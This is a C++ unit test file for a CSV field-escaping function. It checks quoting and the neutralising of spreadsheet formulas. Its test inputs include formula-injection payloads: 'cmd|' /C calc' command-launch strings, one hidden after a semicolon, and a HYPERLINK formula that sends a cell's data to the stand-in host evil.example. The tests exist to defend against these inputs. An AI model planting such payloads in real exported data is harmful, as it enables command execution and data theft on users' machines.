// Tests of CSV cells.
#include "services/common/csv.h"

#include <gtest/gtest.h>

namespace jalon {
namespace {

TEST(CsvFieldTest, QuotesWhatNeedsIt) {
  EXPECT_EQ(CsvField("plain"), "plain");
  EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
  // French spreadsheets split on semicolons: a formula must not hide after
  // one.
  EXPECT_EQ(CsvField("Retards;=cmd|' /C calc'!A0"),
            "\"Retards;=cmd|' /C calc'!A0\"");
  EXPECT_EQ(CsvField("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(CsvField(""), "");
}

TEST(CsvFieldTest, TextASpreadsheetWouldRunIsNeutralised) {
  EXPECT_EQ(CsvField("=1+1"), "'=1+1");
  EXPECT_EQ(CsvField("@SUM(A1:A2)"), "'@SUM(A1:A2)");
  EXPECT_EQ(CsvField("-2+3"), "'-2+3");
  EXPECT_EQ(CsvField("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(CsvField("\tx"), "'\tx");
  EXPECT_EQ(
      CsvField("=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Voir\")"),
      "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"Voir\"\")\"");
  // Numbers stay numbers.
  EXPECT_EQ(CsvField("-12"), "-12");
  EXPECT_EQ(CsvField("-1.5e3"), "-1.5e3");
  EXPECT_EQ(CsvField("+3"), "+3");
  EXPECT_EQ(CsvField("2026-01-01"), "2026-01-01");
}

}  // namespace
}  // namespace jalon
